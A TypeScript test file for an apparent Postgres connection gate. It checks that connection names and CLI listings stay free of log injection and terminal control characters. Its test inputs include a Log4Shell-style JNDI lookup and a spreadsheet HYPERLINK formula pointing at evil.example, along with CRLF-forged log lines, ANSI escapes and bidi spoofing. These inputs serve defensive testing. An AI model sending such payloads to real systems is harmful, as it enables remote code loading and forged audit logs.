import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type CliFixture, createCliFixture } from '../cli/run.ts';
import { gateUnderTest } from '../gate/gate-fixture.ts';
import { pollUntil } from '../support/poll.ts';
import { postgresUrl } from '../support/postgres.ts';
import { logIn } from '../support/raw-login.ts';

const gate = gateUnderTest();
let cli: CliFixture;
beforeAll(async () => {
  cli = await createCliFixture({ storeUrl: gate.postern.store.url, backendUrl: postgresUrl() });
});
afterAll(() => cli?.remove());

/** What moves a cursor, ends a line or turns text around, in whatever encoding a terminal understands. */
const steering = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const hostile: readonly (readonly [string, string])[] = [
  ['line breaks', 'a\r\n{"level":"info","outcome":"admitted"}\n'],
  ['line breaks of Unicode', 'a\u0085b\u2028c\u2029d'],
  ['ANSI escapes', '\u001b[2J\u001b]0;title\u0007\u001b[31mred'],
  ['8-bit escapes', '\u009b2J\u009d0;title\u009c'],
  ['JSON', '","outcome":"admitted","x":"'],
  ['half a JSON', '\\'],
  ['text that is turned around', '\u202enimda\u2066 \u200b\ufeff'],
  ['tags that nobody sees', 'a\u{e0041}\u{e007f}'],
  ['a spreadsheet formula', '=HYPERLINK("http://evil.example")'],
  ['a lookup', '\u0024{jndi:ldap://evil.example/a}'],
  ['backspaces', 'admin\b\b\b\b\broot'],
];

const rawLog = () => readFileSync(join(gate.postern.directory, 'postern.log'), 'utf8');

it.each(hostile)(
  '%s in user, database and application stay within one line of the log',
  async (_name, text) => {
    const before = rawLog().length;
    const client = await gate.greeted({ user: text, database: text, application_name: text });
    const refusal = await client.refusal();
    for (const field of Object.values(refusal)) expect(field).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);

    const line = await gate.logged({ application: text, user: text, database: text });
    expect(line).toMatchObject({ outcome: 'refused', reason: 'user-mismatch' });
    const raw = rawLog().slice(before);
    expect(raw).not.toMatch(steering);
    for (const each of raw.trimEnd().split('\n')) {
      expect(Object.keys(JSON.parse(each) as object)).toEqual(
        expect.arrayContaining(['level', 'time', 'msg']),
      );
    }
  },
);

it('what is listed of attempts and sessions steers no terminal, for people and in JSON', async () => {
  const { account, readerKey } = gate.postern;
  for (const [, text] of hostile) {
    const client = await gate.greeted({ application_name: text });
    await logIn(client, readerKey);
    const refused = await gate.greeted({ database: text, application_name: text });
    await refused.refusal();
  }
  const count = async (...args: string[]) => (await cli.json<unknown[]>(...args)).length;
  await pollUntil(async () => (await count('session', 'list')) === hostile.length, { timeoutMs: 15_000 });
  // One for each test above, and one for each refusal here.
  await pollUntil(async () => (await count('attempt', 'list', account)) >= 2 * hostile.length, {
    timeoutMs: 15_000,
  });

  const listed = [
    await cli.run('attempt', 'list', account, '--limit', '100'),
    await cli.run('attempt', 'list', account, '--limit', '100', '--json'),
    await cli.run('session', 'list', account),
    await cli.run('session', 'list', '--json'),
  ];
  for (const { code, out, err } of listed) {
    expect([code, err]).toEqual([0, '']);
    expect(out).not.toMatch(steering);
  }
  const [attempts, attemptsJson, sessions, sessionsJson] = listed.map(({ out }) => out);
  const names = (json = '') =>
    (JSON.parse(json) as { applicationName: string }[]).map(({ applicationName }) => applicationName);
  expect(names(attemptsJson)).toEqual(expect.arrayContaining(hostile.map(([, text]) => text)));
  expect(names(sessionsJson).sort()).toEqual(hostile.map(([, text]) => text).sort());
  expect(sessions?.trimEnd().split('\n')).toHaveLength(1 + hostile.length);
  expect(attempts?.trimEnd().split('\n')).toHaveLength(1 + names(attemptsJson).length);
});
